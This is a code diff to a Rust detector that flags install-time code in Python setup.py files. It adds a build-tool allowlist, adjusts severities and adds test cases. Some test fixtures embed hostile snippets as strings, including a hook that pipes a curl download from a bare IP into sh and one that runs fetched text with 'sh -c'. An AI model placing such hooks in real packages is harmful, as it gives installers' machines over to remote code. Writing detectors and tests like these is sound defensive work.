@@ -5,8 +5,10 @@
 //! backends (`backend-path` in `pyproject.toml`), which run the sdist's own code.
 //!
 //! Severity: a bare hook is Medium; module-level process Medium (`git describe`
-//! is common); module-level network High; network or process/exec *inside* a hook, or
-//! module-level network plus process, Critical. Must not: report process or
+//! is common); a hook running a build tool it names (`cmake`, `make`, `npm`, `cargo`,
+//! `git`, a shipped `configure` or `.sh` script; no shell chaining) Medium; module-level
+//! network High; network, exec or any other process *inside* a hook, or module-level
+//! network plus process, Critical. Must not: report process or
 //! network use outside setup.py (other detectors do).
 
 use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
@@ -18,7 +20,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.install-hook",
-    revision: 2,
+    revision: 3,
     title: "Runs code at install time.",
     category: Category::Execution,
     severity: Severity::Medium,
@@ -57,6 +59,113 @@ pub(crate) fn top_blocks(src: &Source<'_>) -> Vec<(usize, usize)> {
         }
     }
     out
+}
+
+/// Programs a build hook runs to build what it ships: compilers, build systems, code
+/// generators, front-end package managers, version control for submodules.
+const BUILD_TOOLS: &[&str] = &[
+    "make",
+    "gmake",
+    "nmake",
+    "cmake",
+    "ninja",
+    "meson",
+    "scons",
+    "bazel",
+    "bazelisk",
+    "configure",
+    "autoreconf",
+    "autogen.sh",
+    "gcc",
+    "g++",
+    "cc",
+    "c++",
+    "clang",
+    "clang++",
+    "cl",
+    "nvcc",
+    "gfortran",
+    "ar",
+    "ranlib",
+    "strip",
+    "lipo",
+    "install_name_tool",
+    "patchelf",
+    "cargo",
+    "rustc",
+    "maturin",
+    "go",
+    "zig",
+    "javac",
+    "mvn",
+    "gradle",
+    "ant",
+    "dotnet",
+    "msbuild",
+    "xcodebuild",
+    "swig",
+    "protoc",
+    "cython",
+    "flatc",
+    "thrift",
+    "pkg-config",
+    "npm",
+    "npx",
+    "yarn",
+    "pnpm",
+    "node",
+    "bun",
+    "tsc",
+    "git",
+    "sphinx-build",
+    "pandoc",
+    "msgfmt",
+    "pybabel",
+];
+
+/// The build tool a process call in a hook runs, if its program is one of [`BUILD_TOOLS`]
+/// and the command chains nothing else (no `|`, `;`, `&&`, `$(…)`, backquotes): from a
+/// literal (`["cmake", src]`, `"make -j4"`), a variable assigned such a literal in the file
+/// (`cmd = ["npm", "ci"]`), or a variable named after the tool (`cmake_path`). `sh`/`bash`
+/// count when they run a shipped `.sh` script or `configure`.
+fn build_tool(text: &str, sink: &super::sinks::Sink<'_>) -> Option<String> {
+    static FIRST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"^\(\s*(?:\[|\()?\s*(?:(?P<q>['"])(?P<lit>[^'"\n]*)['"]|(?P<var>[A-Za-z_][\w.]*))(?:\s*,\s*['"](?P<second>[^'"\n]*)['"])?"#)
+            .expect("first argument")
+    });
+    let after = &text[sink.offset + sink.name.len()..];
+    let call: String = after.chars().take(300).collect();
+    let c = FIRST.captures(&call)?;
+    let program_of = |lit: &str| -> Option<(String, Option<String>)> {
+        if lit.contains(['|', ';', '`', '>']) || lit.contains("&&") || lit.contains("$(") {
+            return None;
+        }
+        let mut words = lit.split_whitespace();
+        Some((words.next()?.to_string(), words.next().map(str::to_string)))
+    };
+    let (program, second) = if let Some(lit) = c.name("lit") {
+        let (p, w) = program_of(lit.as_str())?;
+        (p, c.name("second").map(|m| m.as_str().to_string()).or(w))
+    } else {
+        let var = c.name("var")?.as_str();
+        let lower = var.to_ascii_lowercase();
+        if let Some(tool) = BUILD_TOOLS.iter().find(|t| t.len() > 2 && lower.contains(*t)) {
+            return Some((*tool).to_string());
+        }
+        let assigned =
+            Regex::new(&format!(r#"(?m)^[ \t]*{}\s*=\s*[\[(]?\s*['"]([^'"\n]*)['"]"#, regex::escape(var))).ok()?;
+        let lit = assigned.captures(text)?.get(1)?.as_str().to_string();
+        program_of(&lit)?
+    };
+    let base = program.rsplit(['/', '\\']).next().unwrap_or(&program).to_ascii_lowercase();
+    let base = base.strip_suffix(".exe").unwrap_or(&base).to_string();
+    if BUILD_TOOLS.contains(&base.as_str()) {
+        return Some(base);
+    }
+    let script = second.filter(|a| a.ends_with(".sh") || a.ends_with("configure"));
+    matches!(base.as_str(), "sh" | "bash").then_some(())?;
+    let script = script.filter(|a| !a.contains("://") && !a.starts_with('-'))?;
+    Some(format!("{base} {script}"))
 }
 
 pub(crate) struct InstallHook;
@@ -112,6 +221,9 @@ impl Detector for InstallHook {
                 hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
             }
         };
+        // Every URL the file fetches belongs to the project (its `url=`/`project_urls`).
+        let own = std::cell::OnceCell::new();
+        let own_urls = || *own.get_or_init(|| super::net_downloads_file::fetches_only_own_urls(file));
         let has_cmdclass = file.text.match_indices("cmdclass").any(|(i, _)| src.is_code(i));
         if has_cmdclass {
             for c in HOOK_CLASS.captures_iter(file.text) {
@@ -126,19 +238,32 @@ impl Detector for InstallHook {
                     push(hits, m.start(), format!("cmdclass {cmd}"), Severity::Medium);
                 } else {
                     for s in inside {
-                        push(hits, s.offset, format!("{cmd} hook: {}", s.name), Severity::Critical);
+                        if s.kind == SinkKind::Fetch && own_urls() {
+                            push(hits, s.offset, format!("{cmd} hook fetches the project's own URL"), Severity::Medium);
+                            continue;
+                        }
+                        match (s.kind, build_tool(file.text, s)) {
+                            // A compiler, build system or package manager named in the call:
+                            // the native or front-end build a hook exists for.
+                            (SinkKind::Process, Some(tool)) => {
+                                push(hits, s.offset, format!("{cmd} hook runs build tool {tool}"), Severity::Medium);
+                            }
+                            _ => push(hits, s.offset, format!("{cmd} hook: {}", s.name), Severity::Critical),
+                        }
                     }
                 }
             }
         }
         let module_level = |o: usize| !blocks.iter().any(|b| b.0 <= o && o < b.1);
         let top: Vec<_> = all.iter().filter(|s| s.kind != SinkKind::Exec && module_level(s.offset)).collect();
-        let net = top.iter().any(|s| matches!(s.kind, SinkKind::Fetch | SinkKind::Send));
+        let own_fetch = |s: &&super::sinks::Sink<'_>| s.kind == SinkKind::Fetch && own_urls();
+        let net = top.iter().any(|s| matches!(s.kind, SinkKind::Fetch | SinkKind::Send) && !own_fetch(s));
         let proc_ = top.iter().any(|s| s.kind == SinkKind::Process);
         for s in top {
             let sev = match (net && proc_, s.kind) {
                 (true, _) => Severity::Critical,
                 (false, SinkKind::Process) => Severity::Medium,
+                (false, SinkKind::Fetch) if own_fetch(&s) => Severity::Medium,
                 _ => Severity::High,
             };
             push(hits, s.offset, format!("module-level {}", s.name), sev);
@@ -158,6 +283,7 @@ mod tests {
     const TOP_NET: &str = "import urllib.request\nurllib.request.urlopen('http://example.org/x')\nsetup(name='x')\n";
     const BOTH: &str =
         "import subprocess, requests\nr = requests.get(U)\nsubprocess.call(['sh', '-c', r.text])\nsetup()\n";
+    const CMAKE: &str = "import subprocess\nfrom setuptools.command.build_py import build_py\n\nclass CMakeBuild(build_py):\n    def run(self):\n        cmake_args = ['-DCMAKE_BUILD_TYPE=Release']\n        subprocess.check_call(['cmake', self.src] + cmake_args)\n        super().run()\n\nsetup(cmdclass={'build_py': CMakeBuild})\n";
     const GIT: &str = "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\nsetup(version=version())\n";
 
     #[test]
@@ -183,6 +309,76 @@ mod tests {
                     Some((2, "module-level requests.get", Critical)),
                 ),
                 ("git describe in a function", "setup.py", InstallTime, GIT, None),
+                (
+                    "a build_ext hook running cmake (a native build)",
+                    "setup.py",
+                    InstallTime,
+                    CMAKE,
+                    Some((7, "build_py hook runs build tool cmake", Medium)),
+                ),
+                (
+                    "a build_py hook running npm from a variable",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        cmd = ['npm', 'run', 'build']\n        subprocess.check_call(cmd, cwd='js')\n        super().run()\nsetup(cmdclass={'build_py': B})\n",
+                    Some((6, "build_py hook runs build tool npm", Medium)),
+                ),
+                (
+                    "a hook running a shipped configure script with sh",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nclass B(build_py):\n    def run(self):\n        subprocess.check_call(['sh', './configure'])\nsetup(cmdclass={'build_py': B})\n",
+                    Some((4, "build_py hook runs build tool sh ./configure", Medium)),
+                ),
+                (
+                    "a build tool's name chained with a download in a shell string",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nclass B(build_py):\n    def run(self):\n        os.system('make && curl -s http://203.0.113.9/x | sh')\nsetup(cmdclass={'build_py': B})\n",
+                    Some((4, "build_py hook: os.system", Critical)),
+                ),
+                (
+                    "a build hook fetching the project's own prebuilt library",
+                    "setup.py",
+                    InstallTime,
+                    "import urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlopen('https://github.com/acme/tool/releases/download/v1/lib.so')\nsetup(url='https://github.com/acme/tool', cmdclass={'build_py': B})\n",
+                    Some((4, "build_py hook fetches the project's own URL", Medium)),
+                ),
+                (
+                    "module-level fetch of the project's own release asset",
+                    "setup.py",
+                    InstallTime,
+                    "import urllib.request\nurllib.request.urlopen('https://acme.example.org/dl/lib.so')\nsetup(name='x', url='https://acme.example.org/')\n",
+                    Some((2, "module-level urllib.request.urlopen", Medium)),
+                ),
+                (
+                    "a build hook fetching someone else's URL",
+                    "setup.py",
+                    InstallTime,
+                    "import urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlopen('https://203.0.113.7/lib.so')\nsetup(url='https://github.com/acme/tool', cmdclass={'build_py': B})\n",
+                    Some((4, "build_py hook: urllib.request.urlopen", Critical)),
+                ),
+                (
+                    "a hook running curl",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nclass I(install):\n    def run(self):\n        subprocess.call(['curl', '-o', '/tmp/x', U])\nsetup(cmdclass={'install': I})\n",
+                    Some((4, "install hook: subprocess.call", Critical)),
+                ),
+                (
+                    "sh -c in a hook",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nclass I(install):\n    def run(self):\n        subprocess.call(['sh', '-c', PAYLOAD])\nsetup(cmdclass={'install': I})\n",
+                    Some((4, "install hook: subprocess.call", Critical)),
+                ),
+                (
+                    "a build tool next to a download in the same hook",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess, urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlretrieve(U, 'x')\n        subprocess.check_call(['make'])\nsetup(cmdclass={'build_py': B})\n",
+                    Some((4, "build_py hook: urlretrieve", Critical)),
+                ),
                 (
                     "dist_info override (runs when pip only wants metadata)",
                     "setup.py",
